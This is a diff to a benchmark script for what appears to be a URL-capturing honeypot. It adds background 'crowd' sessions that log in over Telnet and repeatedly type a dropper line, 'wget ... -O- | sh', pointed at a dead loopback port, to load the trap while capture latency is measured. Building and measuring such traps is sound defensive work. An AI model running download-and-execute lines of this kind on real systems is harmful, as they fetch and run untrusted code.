@@ -1,11 +1,13 @@
-"""Time from an attacker's command to the request for its URL, on an idle system.
+"""Time from an attacker's command to the request for its URL, on an idle system or beside other attackers.
 
-    python bench/capture.py [--times 50]
+    python bench/capture.py [--times 50] [--crowd 0]
 
 Starts the whole system (`urltrap up`) on loopback with a fresh data folder, logs in over Telnet, and types commands
 whose URLs lie on a loopback server: `program` runs wget (the trap asks the fetcher itself), `text` only names the URL
-to a program that the machine does not have (recovery and pipeline ask). Prints one JSON line with p50, p95 and the
-largest, in milliseconds, of each way.
+to a program that the machine does not have (recovery and pipeline ask). `--crowd`: so many other sessions type
+a dropper's line with a dead URL twice a second, each with verdicts to be found and captures that fail.
+
+Prints one JSON line with p50, p95 and the largest, in milliseconds, of each way, and how many lines the crowd typed.
 """
 
 from __future__ import annotations
@@ -86,17 +88,36 @@ def measure(trap: RunningTrap, arrivals: Arrivals, way: str, times: int) -> dict
     }
 
 
+def crowd(trap: RunningTrap, over: threading.Event, lines: list[int], number: int) -> None:
+    """One other attacker: a line after the other, each with a URL of its own on which nobody listens."""
+    with TelnetClient("127.0.0.1", trap.telnet_port) as client:
+        client.login("root", PASSWORD)
+        while not over.is_set():
+            client.run(f"nosuchprogram && wget http://127.0.0.1:9/{number}/{lines[number]} -O- | sh")
+            lines[number] += 1
+            over.wait(0.5)
+
+
 def main() -> None:
     """Measure both ways and print them."""
     parser = argparse.ArgumentParser(description=__doc__)
     parser.add_argument("--times", type=int, default=50)
-    times = parser.parse_args().times
+    parser.add_argument("--crowd", type=int, default=0)
+    options = parser.parse_args()
+    times, lines = options.times, [0] * options.crowd
     with tempfile.TemporaryDirectory() as folder:
         trap = RunningTrap(Path(folder) / "data", SETTINGS)
-        arrivals = Arrivals()
+        arrivals, over = Arrivals(), threading.Event()
+        others = [threading.Thread(target=crowd, args=(trap, over, lines, n)) for n in range(options.crowd)]
         try:
-            print(json.dumps({way: measure(trap, arrivals, way, times) for way in WAYS}))
+            for other in others:
+                other.start()
+            result = {way: measure(trap, arrivals, way, times) for way in WAYS}
+            print(json.dumps(result | {"crowd": options.crowd, "crowd_lines": sum(lines)}))
         finally:
+            over.set()
+            for other in others:
+                other.join()
             trap.stop()
             arrivals.server.shutdown()
 
